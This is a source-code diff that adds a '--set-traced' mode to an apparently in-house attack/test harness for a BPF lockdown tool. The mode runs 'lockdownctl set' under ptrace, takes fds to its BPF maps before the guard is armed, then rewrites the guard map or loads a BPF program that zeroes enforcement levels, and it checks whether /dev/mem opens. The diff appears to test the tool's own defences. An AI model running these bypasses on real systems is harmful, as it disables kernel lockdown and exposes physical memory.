@@ -27,6 +27,10 @@
  *                                    (after every load-time check, before
  *                                    it has an ID) until FILE exists, then
  *                                    attaches it
+ *        attack --set-traced guard|state LEVEL
+ *                                    runs lockdownctl set LEVEL under
+ *                                    ptrace, takes fds to our maps before
+ *                                    the guard is armed, then uses them
  *        attack --stress SECONDS     raises, applies and probes at once
  *        attack --marker BUILD       prints the marker of that build at
  *                                    this ABI (build-ABI-BUILD)
@@ -50,7 +54,9 @@
 #include <sys/stat.h>
 #include <sys/utsname.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
 #include <sys/syscall.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <linux/bpf.h>
 #include <linux/userfaultfd.h>
@@ -837,6 +843,208 @@ static int stall_load(const char *go)
 			 mem >= 0 ? "opened" : strerror(mem_errno));
 	return report("inflight_load", link >= 0 || raw >= 0 || mem >= 0,
 		      detail);
+}
+
+/* An fd to the map of ours named @name, by ID (-1 when none answers). */
+static int map_named(const char *name)
+{
+	__u32 id = 0;
+
+	while (!bpf_map_get_next_id(id, &id)) {
+		struct bpf_map_info info = { 0 };
+		__u32 len = sizeof(info);
+		int fd = bpf_map_get_fd_by_id(id);
+
+		if (fd < 0)
+			continue;
+		if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
+		    !strcmp(info.name, name))
+			return fd;
+		close(fd);
+	}
+	return -1;
+}
+
+/* Root's own syscall program: state[0].enforced and both policy slots'
+ * levels set to none, through @state (an fd to our state map). */
+static int load_state_writer(int state)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_10,
+		  .off = -4 },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_X,
+		  .dst_reg = BPF_REG_2,
+		  .src_reg = BPF_REG_10 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K,
+		  .dst_reg = BPF_REG_2,
+		  .imm = -4 },
+		{ .code = BPF_LD | BPF_DW | BPF_IMM,
+		  .dst_reg = BPF_REG_1,
+		  .src_reg = BPF_PSEUDO_MAP_FD,
+		  .imm = state },
+		{ 0 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_map_lookup_elem },
+		{ .code = BPF_JMP | BPF_JEQ | BPF_K,
+		  .dst_reg = BPF_REG_0,
+		  .off = 3 },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, enforced) },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, slots[0].level) },
+		{ .code = BPF_ST | BPF_MEM | BPF_W,
+		  .dst_reg = BPF_REG_0,
+		  .off = offsetof(struct lockdown_state, slots[1].level) },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);
+
+	return bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_state", "GPL", insns,
+			     sizeof(insns) / sizeof(insns[0]), &opts);
+}
+
+/*
+ * Everything of ours is unguarded from its load until set arms the guard
+ * (the bpf_map and bpf_prog hooks refuse by the guard's lists, empty
+ * until then), and an fd taken meanwhile stays good. Root runs
+ * `lockdownctl set LEVEL` under ptrace (it could equally race it, or stop
+ * it with SIGSTOP) and, at each bpf(BPF_MAP_FREEZE) it makes:
+ * - the first (the state map's, in loader_load): takes fds to our guard
+ *   and state maps by ID, nothing armed yet;
+ * - the one after the guard is armed (the guard's own freeze, after the
+ *   second scan): @variant "guard" rewrites the guard through its fd with
+ *   every hook_btf_ids cleared, just before it is frozen.
+ * Once set has exited ("SET exit N" printed):
+ * - "guard": an LSM program of root's on bpf_lsm_locked_down answering
+ *   1 << 32 (which ends the chain before ours) is loaded and attached,
+ *   then /dev/mem opened;
+ * - "state": root's own syscall program, using the state map fd taken
+ *   before the guard, sets the enforced level and the policy's to none;
+ *   it is run, then /dev/mem opened.
+ * Breached when /dev/mem opens. Exits 2 when the set could not be traced
+ * or the fds not taken.
+ */
+static int set_traced(const char *variant, const char *level)
+{
+	int guard_variant = !strcmp(variant, "guard"), guard = -1, state = -1;
+	int freezes = 0, rewritten = 0, status, prog, link = -1, mem, err;
+	char detail[192];
+	pid_t pid;
+
+	if (!guard_variant && strcmp(variant, "state")) {
+		fprintf(stderr, "attack: --set-traced guard|state LEVEL\n");
+		return 2;
+	}
+	name_task("rt_set_traced");
+	pid = fork();
+	if (pid < 0)
+		return 2;
+	if (!pid) {
+		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
+		raise(SIGSTOP);
+		execlp("lockdownctl", "lockdownctl", "set", level,
+		       (char *)NULL);
+		_exit(127);
+	}
+	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status)) {
+		perror("attack: starting lockdownctl under ptrace");
+		return 2;
+	}
+	ptrace(PTRACE_SETOPTIONS, pid, NULL,
+	       (void *)(long)(PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL));
+	ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
+	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
+		struct user_regs_struct regs;
+		int sig = WSTOPSIG(status);
+
+		if (sig == (SIGTRAP | 0x80)) {
+			sig = 0;
+			/* At the entry of bpf(BPF_MAP_FREEZE, ...). */
+			if (!ptrace(PTRACE_GETREGS, pid, NULL, &regs) &&
+			    regs.orig_rax == __NR_bpf &&
+			    (long)regs.rax == -ENOSYS &&
+			    regs.rdi == BPF_MAP_FREEZE) {
+				struct lockdown_guard g;
+				__u32 zero = 0;
+
+				freezes++;
+				if (guard < 0)
+					guard = map_named("guard");
+				if (state < 0)
+					state = map_named("state");
+				if (guard_variant && guard >= 0 && !rewritten &&
+				    !bpf_map_lookup_elem(guard, &zero, &g) &&
+				    g.raise_prog) {
+					memset(g.hook_btf_ids, 0,
+					       sizeof(g.hook_btf_ids));
+					rewritten = !bpf_map_update_elem(
+						guard, &zero, &g, BPF_ANY);
+					if (!rewritten)
+						perror("attack: rewriting the guard");
+				}
+			}
+		} else if (sig == SIGTRAP) {
+			sig = 0; /* the exec */
+		}
+		ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig);
+	}
+	printf("SET exit %d freezes %d guard_fd:%s state_fd:%s rewritten:%s\n",
+	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status),
+	       freezes, guard >= 0 ? "taken" : "none",
+	       state >= 0 ? "taken" : "none", rewritten ? "yes" : "no");
+	fflush(stdout);
+	if (guard_variant && !rewritten) {
+		fprintf(stderr, "attack: the guard was not rewritten\n");
+		return 2;
+	}
+	if (!guard_variant && state < 0) {
+		fprintf(stderr, "attack: no fd to the state map\n");
+		return 2;
+	}
+	if (guard_variant) {
+		prog = load_returning("bpf_lsm_locked_down", BPF_PROG_TYPE_LSM,
+				      BPF_LSM_MAC, 1ULL << 32);
+		err = errno;
+		if (prog >= 0) {
+			link = bpf_link_create(prog, 0, BPF_LSM_MAC, NULL);
+			err = errno;
+		}
+		mem = open("/dev/mem", O_RDONLY);
+		snprintf(detail, sizeof(detail),
+			 "lsm_on_locked_down:%s attach:%s /dev/mem:%s",
+			 prog >= 0 ? "loaded" : strerror(err),
+			 link >= 0   ? "ok"
+			 : prog >= 0 ? strerror(err)
+				     : "no",
+			 mem >= 0 ? "opened" : strerror(errno));
+		printf("HELD link\n");
+		fflush(stdout);
+		report("guard_rewrite", mem >= 0, detail);
+		/* The link stays for the scenario's own checks. */
+		pause();
+		return 0;
+	}
+	prog = load_state_writer(state);
+	err = errno;
+	if (prog >= 0) {
+		LIBBPF_OPTS(bpf_test_run_opts, run);
+
+		if (bpf_prog_test_run_opts(prog, &run)) {
+			err = errno;
+			close(prog);
+			prog = -2;
+		}
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail), "state_writer:%s /dev/mem:%s",
+		 prog >= 0    ? "ran"
+		 : prog == -2 ? "not run"
+			      : strerror(err),
+		 mem >= 0 ? "opened" : strerror(errno));
+	return report("state_write", mem >= 0, detail);
 }
 
 /*
@@ -1891,6 +2099,8 @@ int main(int argc, char **argv)
 		return prehide(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stall-load"))
 		return stall_load(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "--set-traced"))
+		return set_traced(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "--stress"))
 		return stress(atoi(argv[2]));
 	if (argc == 3 && !strcmp(argv[1], "--marker"))
